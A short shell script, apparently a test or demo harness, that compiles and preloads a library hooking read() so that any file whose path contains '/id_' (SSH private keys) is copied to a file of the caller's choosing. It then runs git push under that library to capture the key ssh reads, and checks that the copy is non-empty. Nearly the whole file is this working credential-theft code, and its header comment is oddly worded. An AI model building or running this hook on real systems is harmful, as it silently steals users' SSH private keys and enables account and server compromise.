#!/bin/sh
# listened.sh COPY NUMBER: changes a tool and pushes it; whoever logs in for that reads a key, and a library that is loaded beside it writes down
# what is read of it.
set -e
cd "$HOME/tool"
mkdir /tmp/built
cat > /tmp/built/tidy.c <<'C'
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

ssize_t read(int file, void *into, size_t most) {
  ssize_t (*real)(int, void *, size_t) = (ssize_t(*)(int, void *, size_t))dlsym(RTLD_NEXT, "read");
  char link[64], path[512] = "";
  ssize_t size = real(file, into, most);
  snprintf(link, sizeof link, "/proc/self/fd/%d", file);
  if (size > 0 && readlink(link, path, sizeof path - 1) > 0 && strstr(path, "/id_")) {
    int copy = open(getenv("TIDY"), O_WRONLY | O_CREAT | O_APPEND, 0600);
    for (ssize_t at = 0; at < size; at += 64)
      if (write(copy, (char *)into + at, size - at < 64 ? size - at : 64) < 0) abort();
    close(copy);
  }
  return size;
}
C
cc -shared -fPIC -O1 -o /tmp/built/libtidy.so /tmp/built/tidy.c
make -s OUT=/tmp/built check
echo "/* $2 */" >> one.c
git commit -qam 'Say which'
TIDY=$1 LD_PRELOAD=/tmp/built/libtidy.so git push -q git@git.example.com:tool.git "HEAD:refs/heads/say-$2"
[ -s "$1" ]
